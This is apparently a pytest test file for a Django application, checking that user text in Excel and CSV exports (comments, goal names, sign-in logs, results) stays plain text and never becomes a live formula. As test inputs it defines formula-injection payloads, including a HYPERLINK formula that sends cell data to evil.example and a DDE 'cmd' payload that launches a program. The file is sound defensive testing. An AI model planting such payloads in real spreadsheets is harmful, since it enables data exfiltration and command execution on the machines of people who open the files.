"""Issue 12 item 4: user text leaves every export as text, never as a formula.

A public comment ``=HYPERLINK(…)``, a goal named ``=cmd|…``, a progress text, a user name or
a browser string typed by an attacker must not become a live formula when the office opens
the Excel or CSV file (CMT-4, SUP-4, SYS-8, EVAL-8, RES-3, RES-4). In a workbook the cell is a
string cell; in a CSV a leading ``= + - @ TAB CR`` gets an apostrophe.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kaohe.accounts.models import SignInEvent
from kaohe.comments.models import CommenterKind
from kaohe.core.exports import csv_value
from kaohe.core.roles import RoleCode
from tests.comments.factories import CommentFactory
from tests.goals.factories import GoalFactory, ProgressEntryFactory, ProgressReportFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def workbook_of(response):
    assert response.status_code == 200, response.status_code
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(body))


def cells_holding(workbook, text):
    found = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert found, f"{text!r} is in the workbook as typed"
    return found


def assert_no_formulas(workbook):
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


@pytest.mark.parametrize("text", PAYLOADS)
def test_issue12_csv_cells_starting_like_a_formula_get_an_apostrophe(text):
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("value", ["推进重点项目", "a=b", "", 12, -3, Decimal("-1.5"), None])
def test_issue12_csv_cells_that_are_not_formulas_are_left_alone(value):
    assert csv_value(value) == value


def test_cmt4_comment_export_keeps_a_public_comment_formula_as_text(client, office_user, unit):
    goal = GoalFactory(plan__unit=unit, name=DDE)
    CommentFactory(goal=goal, body=HYPERLINK, author_name="@SUM(1+1)", commenter_kind=CommenterKind.PUBLIC)
    client.force_login(office_user)
    workbook = workbook_of(client.get(reverse("comments_admin:export") + "?status="))
    assert_no_formulas(workbook)
    for text in (HYPERLINK, "@SUM(1+1)"):
        assert all(cell.data_type == "s" for cell in cells_holding(workbook, text))


def test_sup4_progress_template_and_report_keep_goal_names_and_texts_as_text(client, unit_admin, plan):
    goal = GoalFactory(plan=plan, name=HYPERLINK)
    client.force_login(unit_admin)
    template = workbook_of(client.get(reverse("goals_admin:template", args=[plan.pk]) + "?period=Q3"))
    assert_no_formulas(template)
    assert any(HYPERLINK in str(cell.value) for row in template.worksheets[0].iter_rows() for cell in row)
    report = ProgressReportFactory(plan=plan, period="Q3")
    ProgressEntryFactory(report=report, goal=goal, work_done=DDE, delay_reasons="@SUM(1+1)", lessons="-2+3")
    confirmed = workbook_of(client.get(reverse("goals_admin:report_export", args=[report.pk])))
    assert_no_formulas(confirmed)
    for text in (DDE, "@SUM(1+1)", "-2+3"):
        cells_holding(confirmed, text)


def test_sys8_sign_in_log_csv_neutralises_user_names_and_browsers(client, make_user):
    SignInEvent.objects.create(
        username=DDE, outcome=SignInEvent.Outcome.FAILURE, ip_address="10.0.0.9", user_agent=HYPERLINK
    )
    SignInEvent.objects.create(username="@SUM(1+1)", outcome=SignInEvent.Outcome.FAILURE, user_agent="\t=1+1")
    client.force_login(make_user(RoleCode.SYSTEM_ADMIN))
    response = client.get(reverse("wagtailsnippets_accounts_signinevent:list") + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert {"'" + DDE, "'" + HYPERLINK, "'@SUM(1+1)", "'\t=1+1"} <= set(cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    workbook = workbook_of(client.get(reverse("wagtailsnippets_accounts_signinevent:list") + "?export=xlsx"))
    assert_no_formulas(workbook)
    cells_holding(workbook, DDE)


def test_eval8_results_workbook_keeps_a_target_name_as_text(client, make_user):
    from kaohe.evaluation import services
    from tests.evaluation.test_tally import cast, weighted_task

    task = weighted_task(min_ballots=1)
    team = task.targets.order_by("sort_order").first().team
    cast(task, "分管领导", ["AB", "CC"])
    services.task_close(task=task)
    team.name = HYPERLINK
    team.save()
    client.force_login(make_user(RoleCode.ASSESSMENT_GROUP))
    workbook = workbook_of(client.get(reverse("evaluation_admin:results_xlsx", args=[task.pk])))
    assert_no_formulas(workbook)
    cells_holding(workbook, HYPERLINK)


def test_res3_res4_results_workbooks_keep_cadre_names_as_text(client, office_user, computed_year):
    cadre = computed_year.cadres[0]
    cadre.name = DDE
    cadre.save()
    client.force_login(office_user)
    for url in (
        reverse("results_admin:cadres", args=[2026]) + "?format=xlsx",
        reverse("results_admin:ranking", args=[2026]) + "?format=xlsx",
    ):
        workbook = workbook_of(client.get(url))
        assert_no_formulas(workbook)


def test_issue12_every_workbook_and_csv_writer_goes_through_the_helpers():
    """A new export cannot forget the helpers: any module that makes a workbook or a CSV writer
    imports ``kaohe.core.exports``."""
    from pathlib import Path

    from django.conf import settings

    root = Path(settings.BASE_DIR)
    offenders = []
    for folder in ("kaohe", "home", "search", "portal"):
        for path in (root / folder).rglob("*.py"):
            if "migrations" in path.parts or path.name == "exports.py" and path.parent.name == "core":
                continue
            text = path.read_text(encoding="utf-8")
            writes = "Workbook(" in text or "csv.writer(" in text or "csv.DictWriter(" in text
            if writes and "kaohe.core.exports" not in text:
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
